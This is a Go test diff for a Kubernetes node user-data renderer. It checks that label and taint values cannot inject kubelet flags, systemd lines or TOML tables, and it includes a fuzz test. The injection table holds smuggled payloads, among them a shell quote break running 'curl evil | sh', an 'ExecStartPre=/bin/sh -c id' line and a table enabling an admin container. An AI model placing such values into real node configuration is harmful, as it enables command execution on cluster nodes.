@@ -2,11 +2,15 @@ package userdata
 
 import (
 	"encoding/base64"
+	"fmt"
+	"slices"
+	"strings"
 	"testing"
 
 	"github.com/BurntSushi/toml"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
+	"k8s.io/apimachinery/pkg/util/validation"
 )
 
 func opts() Options {
@@ -268,4 +272,95 @@ func TestCustomFamilyIsTheClassUserDataAsItIs(t *testing.T) {
 	got, err := Render(Custom, o)
 	require.NoError(t, err)
 	assert.Equal(t, o.Custom, got)
+}
+
+// injections are labels and taints that, written into user data as they are, would add kubelet
+// flags, systemd or shell lines, or TOML tables, or keep the node from joining.
+var injections = []struct {
+	name                 string
+	labelKey, labelValue string
+	taint                Taint
+}{
+	{name: "label value adding a flag", labelKey: "team", labelValue: "a --max-pods=1"},
+	{name: "label value adding a systemd line", labelKey: "team", labelValue: "a\nExecStartPre=/bin/sh -c id"},
+	{name: "label value adding a label", labelKey: "team", labelValue: "a,evil=yes"},
+	{name: "label value closing the shell quote", labelKey: "team", labelValue: "a'; curl evil | sh; '"},
+	{name: "label value adding a NodeConfig flag", labelKey: "team", labelValue: "a\n    - --max-pods=1"},
+	{name: "label value adding a TOML table", labelKey: "team", labelValue: "a\"\n[settings.host-containers.admin]\nenabled = true\n"},
+	{name: "label key with a space", labelKey: "team --max-pods", labelValue: "a"},
+	{name: "label key with a bad prefix", labelKey: "Example_Com/team", labelValue: "a"},
+	{name: "label key name too long", labelKey: "example.com/" + strings.Repeat("a", 64), labelValue: "a"},
+	{name: "taint value adding a taint", taint: Taint{Key: "t", Value: "v,evil=x:NoExecute", Effect: "NoSchedule"}},
+	{name: "taint value adding a line", taint: Taint{Key: "t", Value: "v\nExecStart=", Effect: "NoSchedule"}},
+	{name: "taint key adding a flag", taint: Taint{Key: "t --max-pods=1", Effect: "NoSchedule"}},
+	{name: "empty taint key", taint: Taint{Effect: "NoSchedule"}},
+	{name: "misspelt effect", taint: Taint{Key: "t", Value: "v", Effect: "NoSchedul"}},
+	{name: "effect adding a flag", taint: Taint{Key: "t", Value: "v", Effect: "NoSchedule --max-pods=1"}},
+}
+
+// Render refuses, with the offending label or taint named, anything that is not one valid
+// token: whatever wrote the NodeClaim (a translated Provisioner, a hand-written claim), it
+// cannot add kubelet flags or lines to the node's boot.
+func TestRenderRefusesLabelsAndTaintsThatAreNotOneToken(t *testing.T) {
+	for _, tc := range injections {
+		for _, fam := range []Family{AL2, AL2023, Bottlerocket, Custom} {
+			t.Run(tc.name+"/"+string(fam), func(t *testing.T) {
+				o := opts()
+				want := ""
+				if tc.labelKey != "" {
+					o.Labels[tc.labelKey] = tc.labelValue
+					want = fmt.Sprintf("label %q", tc.labelKey)
+				} else {
+					o.Taints = append(o.Taints, tc.taint)
+					want = fmt.Sprintf("taint %q", tc.taint.String())
+				}
+				_, err := Render(fam, o)
+				require.Error(t, err)
+				assert.ErrorContains(t, err, want)
+			})
+		}
+	}
+}
+
+// Whatever labels and taints Render accepts, a node reading the user data registers with
+// exactly those: every label and taint is one token, and nothing else (no kubelet flag, no
+// line, no table) comes with it. Render refuses only labels and taints the kubelet would.
+func FuzzRenderLabelsAndTaints(f *testing.F) {
+	f.Add("team", "a", "dedicated", "gpu", "NoSchedule")
+	f.Add("example.com/Tier_1.x", "", "example.com/k", "", "PreferNoSchedule")
+	for _, tc := range injections {
+		f.Add(tc.labelKey, tc.labelValue, tc.taint.Key, tc.taint.Value, tc.taint.Effect)
+	}
+	f.Fuzz(func(t *testing.T, labelKey, labelValue, taintKey, taintValue, effect string) {
+		o := opts()
+		o.Kubelet = Kubelet{}
+		valid := true
+		// All empty stands for none, so a seed can test a label or a taint alone.
+		if labelKey != "" || labelValue != "" {
+			o.Labels[labelKey] = labelValue
+			valid = len(validation.IsQualifiedName(labelKey)) == 0 && len(validation.IsValidLabelValue(labelValue)) == 0
+		}
+		taint := Taint{Key: taintKey, Value: taintValue, Effect: effect}
+		if taint != (Taint{}) {
+			o.Taints = append(o.Taints, taint)
+			valid = valid && len(validation.IsQualifiedName(taintKey)) == 0 && len(validation.IsValidLabelValue(taintValue)) == 0 &&
+				slices.Contains([]string{"NoSchedule", "PreferNoSchedule", "NoExecute"}, effect)
+		}
+		for _, fam := range []Family{AL2, AL2023, Bottlerocket} {
+			doc, err := Render(fam, o)
+			if err != nil {
+				require.False(t, valid, "%s refused a valid label or taint: %v", fam, err)
+				continue
+			}
+			require.True(t, valid, "%s rendered label %q=%q, taint %q", fam, labelKey, labelValue, taint)
+			reg, err := Parse(doc)
+			require.NoError(t, err, doc)
+			require.Equal(t, fam, reg.Family)
+			require.Equal(t, o.ClusterName, reg.ClusterName, doc)
+			require.Equal(t, o.Labels, reg.Labels, doc)
+			require.ElementsMatch(t, o.Taints, reg.Taints, doc)
+			require.Equal(t, Kubelet{ClusterDNS: []string{o.ClusterDNS}}, reg.Kubelet, "no kubelet setting but the cluster DNS:\n%s", doc)
+			require.Empty(t, reg.InstanceStorePolicy, doc)
+		}
+	})
 }
